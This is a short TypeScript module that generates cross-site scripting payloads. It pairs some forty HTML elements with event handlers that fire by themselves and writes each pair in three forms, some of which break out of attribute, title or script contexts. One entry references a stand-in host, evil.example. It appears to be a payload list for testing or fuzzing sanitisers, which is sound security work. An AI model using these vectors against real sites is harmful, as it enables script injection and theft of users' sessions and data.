/** Elements that raise an event by themselves or on the way past them. */
const ON_THEIR_OWN = [
  ['img src=x', 'onerror'],
  ['img src=//evil.example/x', 'onload'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><discard', 'onbegin'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['iframe', 'onload'],
  ['frameset', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['video src=x', 'onerror'],
  ['video autoplay src=x', 'onloadstart'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['audio autoplay controls src=x', 'onplay'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['div contenteditable autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['dialog open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['marquee loop=1 width=0', 'onfinish'],
  ['p style="animation:x"', 'onanimationstart'],
  ['p style="transition:1s"', 'ontransitionend'],
  ['b', 'onmouseover'],
  ['b', 'onpointerenter'],
  ['b', 'onscroll'],
  ['isindex type=image src=x', 'onerror'],
  ['math', 'onclick'],
  ['xss tabindex=1', 'onfocusin'],
] as const;

/** How an attribute may be written. */
const FORMS = [
  (element: string, event: string) => `<${element} ${event}=xss()>`,
  (element: string, event: string) => `"><${element.toUpperCase()} ${event}="xss()"/>`,
  (element: string, event: string) => `'></title></script><${element}/${event}\n=\n'xss()' x='`,
] as const;

export const EVENT_HANDLERS = ON_THEIR_OWN.flatMap(([element, event]) =>
  FORMS.map((form) => form(element, event)),
);
